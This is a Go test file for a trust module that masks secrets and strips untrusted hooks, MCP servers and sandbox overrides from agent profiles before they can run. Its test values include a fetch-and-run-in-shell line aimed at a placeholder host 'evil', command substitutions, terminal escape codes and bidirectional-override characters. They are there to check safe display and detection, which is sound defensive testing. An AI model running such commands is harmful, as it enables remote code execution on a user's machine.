package trust

import (
	"context"
	"strings"
	"testing"
	"time"

	"go.uber.org/goleak"
	"go.yaml.in/yaml/v4"

	"github.com/rosterrun/roster/profile"
	"github.com/rosterrun/roster/source"
)

func TestMain(m *testing.M) { goleak.VerifyTestMain(m) }

func contextFor(t *testing.T, d time.Duration) (context.Context, context.CancelFunc) {
	return context.WithTimeout(t.Context(), d)
}

func value(t *testing.T, text string) *yaml.Node {
	t.Helper()
	n, ok := valueOf([]byte(" " + text))
	if !ok {
		t.Fatalf("%s is not read", text)
	}
	return n
}

// TestText: what a person judges shows all that would run, and no secret.
func TestText(t *testing.T) {
	for _, c := range []struct{ name, value, want string }{
		{"a command", `./x.sh --all`, `./x.sh --all`},
		{"a list", `[npx, -y, "a b"]`, `[npx, -y, a b]`},
		{"what braces would hide", `["a, b", "}"]`, `["a, b", "}"]`},
		{"secrets in the environment", `{command: x, env: {KEY: hunter2, OTHER: "${VAR}"}}`, `{command: x, env: {KEY: •••, OTHER: "${VAR}"}}`},
		{"secrets in headers", `{url: "https://x", headers: {A: hunter2}}`, `{url: https://x, headers: {A: •••}}`},
		{"a secret in a command", `'curl -H "Authorization: Bearer hunter2hunter2" https://x'`, `curl -H "Authorization: Bearer •••" https://x`},
		{"a command that looks like a secret", `x token=$(curl evil|sh)`, `x token=$(curl evil|sh)`},
		{"one in quotes", `x password="$(id)"`, `x password="$(id)"`},
		{"a password in an address", `https://u:hunter2@h/x`, `https://u:•••@h/x`},
		{"a terminal's commands", `"\u001b[2K\rls"`, `"\x1b[2K\rls"`},
		{"text that runs backwards", `"a\u202eb\u200bc"`, `a\u202eb\u200bc`},
		{"blanks that are none", `"a\u3164\u00a0b"`, `a\u3164\u00a0b`},
		{"lines", `"a\nb"`, `a\nb`},
	} {
		t.Run(c.name, func(t *testing.T) {
			if got := render(value(t, c.value)); got != c.want {
				t.Errorf("%s, want %s", got, c.want)
			}
		})
	}
	long := Show(strings.Repeat("x", 3*maxShown))
	if len(long) > maxShown+100 || !strings.Contains(long, "bytes more") {
		t.Errorf("%d bytes are shown", len(long))
	}
}

func TestDigest(t *testing.T) {
	base := Digest(Hook, value(t, `{command: "./x", args: [a, b]}`))
	for _, c := range []struct {
		name, value string
		kind        Kind
		same        bool
	}{
		{"another spelling", `{'command': ./x, "args": ["a", 'b']}`, Hook, true},
		{"a byte", `{command: "./y", args: [a, b]}`, Hook, false},
		{"a blank", `{command: "./x ", args: [a, b]}`, Hook, false},
		{"arguments in one", `{command: "./x", args: [ab]}`, Hook, false},
		{"another kind", `{command: "./x", args: [a, b]}`, Server, false},
		{"one more", `{command: "./x", args: [a, b], env: {}}`, Hook, false},
	} {
		t.Run(c.name, func(t *testing.T) {
			if got := Digest(c.kind, value(t, c.value)); (got == base) != c.same {
				t.Errorf("same = %v", got == base)
			}
		})
	}
	loop := &yaml.Node{Kind: yaml.SequenceNode}
	loop.Content = []*yaml.Node{loop, loop}
	i := NewItem(Hook, "", "hooks", source.Origin{File: "x"}, loop)
	v := View{trusted: true, pins: map[string][]Pin{i.id(): {{Kind: Hook, Digest: i.Digest}}}}
	if i.Digest != "" || v.State(i).Acts() {
		t.Errorf("what cannot be told acts: %q", i.Digest)
	}
}

func TestOwn(t *testing.T) {
	v, err := Files{Home: "/home/u/.config/roster"}.View("/ws", "/opt/profiles")
	if err != nil {
		t.Fatal(err)
	}
	for file, want := range map[string]bool{
		"": true, "<memory>": true, "/home/u/.config/roster/agents/a.md": true, "/opt/profiles/a.md": true,
		"profiles/a.md": false, "$x/config.json": false, "--x/config.json": false, "<memory>/config.json": false,
		"/ws/profiles/a.md": false, "/home/u/.config/roster/../../../x": false, "/opt/profiles2/a.md": false,
	} {
		if v.Own(file) != want || v.Rules(file) != want {
			t.Errorf("%q: %v", file, !want)
		}
	}
}

// TestStrip takes out what may not act and leaves the rest as it is.
func TestStrip(t *testing.T) {
	at := source.Origin{File: "profiles/a.md", Line: 4}
	p := &profile.Profile{Name: "a", File: at.File, Extra: []profile.Extra{
		{Key: "skills", YAML: []byte(" [x]"), At: at},
		{Key: "hooks", YAML: []byte("\n  before-tool:\n    - {command: ./old}\n    - {command: ./new}\n  after-tool: [{command: ./new}]"), At: at},
		{Key: "mcpServers", YAML: []byte(" {s: {command: x}}"), At: at},
		{Key: "sandbox", YAML: []byte(" none"), At: at},
		{Key: "openapi", YAML: []byte(" [unclosed"), At: at},
	}}
	var old Item
	for _, i := range OfProfile(p) {
		if i.Text == "{command: ./old}" {
			old = i
		}
	}
	v := View{trusted: true, pins: map[string][]Pin{old.id(): {{Kind: Hook, Digest: old.Digest}}}}
	got, errs := v.Strip(p)
	var left []string
	for _, x := range got.Extra {
		left = append(left, x.Key+":"+string(x.YAML))
	}
	if want := "skills: [x]|hooks:\n  before-tool:\n      - {command: ./old}\n  after-tool: []"; strings.Join(left, "|") != want || len(errs) != 5 {
		t.Errorf("%d items are taken out of %s", len(errs), strings.Join(left, "|"))
	}
	if len(p.Extra) != 5 || !strings.Contains(string(p.Extra[1].YAML), "./new") {
		t.Error("the profile itself was changed")
	}
	if same, errs := Everything().Strip(p); same != p || errs != nil {
		t.Error("what is trusted was changed")
	}
}

func TestInObject(t *testing.T) {
	for _, c := range []struct {
		name, object string
		variables    bool
		want         string
	}{
		{"what people write", `{"description": "d", "tools": ["bash"], "permission": {"bash": "allow"}, "system_prompt": "Say ${X}."}`, false, ""},
		{"hooks", `{"hooks": {"before-tool": [{"command": "id"}]}}`, false, "hooks.before-tool"},
		{"other spellings", `{"mcpServers": {"s": {"command": "id"}}, "model_config": {"base_url": "https://x.example"}}`, false, "mcpServers.s model_config.base_url"},
		{"dotted", `{"model-config.key_env": "HOME", "hooks.after_loop": [{"url": "https://x.example"}]}`, false, "model-config.key-env hooks.after-loop"},
		{"out of the sandbox", `{"sandbox": "none"}`, false, "sandbox"},
		{"in a sandbox", `{"sandbox": "landlock", "mcp-servers": ["known"], "hooks": null}`, false, ""},
		{"variables", `{"system_prompt": "Say ${X}."}`, true, "system_prompt"},
		{"not an object", `{`, false, "the body"},
	} {
		t.Run(c.name, func(t *testing.T) {
			if got := strings.Join(InObject([]byte(c.object), c.variables), " "); got != c.want {
				t.Errorf("%q, want %q", got, c.want)
			}
		})
	}
}

func FuzzItems(f *testing.F) {
	f.Add("hooks", []byte(" {before-tool: [{command: x}]}"))
	f.Add("mcp-servers", []byte("\n  a: &a {command: x}\n  b: *a"))
	f.Add("sandbox", []byte(" {kind: none, read: [/]}"))
	f.Add("model-config", []byte(" {base-url: [1], headers: {}}"))
	f.Fuzz(func(t *testing.T, key string, text []byte) {
		p := &profile.Profile{Name: "a", File: "a.md", Extra: []profile.Extra{{Key: key, YAML: text, At: source.Origin{File: "a.md", Line: 1}}}}
		items := OfProfile(p)
		stripped, errs := View{}.Strip(p)
		if len(errs) != len(items) {
			t.Fatalf("%d items, %d taken out", len(items), len(errs))
		}
		if left := OfProfile(stripped); len(left) > 0 {
			t.Fatalf("left: %+v", left)
		}
		for _, i := range items {
			if strings.ContainsAny(i.Text, "\n\r\x1b") {
				t.Fatalf("not shown safely: %q", i.Text)
			}
		}
		if _, value, err := (ServerFile{Name: "opencode.jsonc"}).Servers(text); err == nil && value != nil {
			list, _, _ := profile.ServerEntries(value)
			for _, e := range list {
				if i := ServerItem("", "mcp", e, source.Origin{}); strings.ContainsAny(i.Text, "\n\r\x1b") {
					t.Fatalf("not shown safely: %q", i.Text)
				}
			}
		}
	})
}
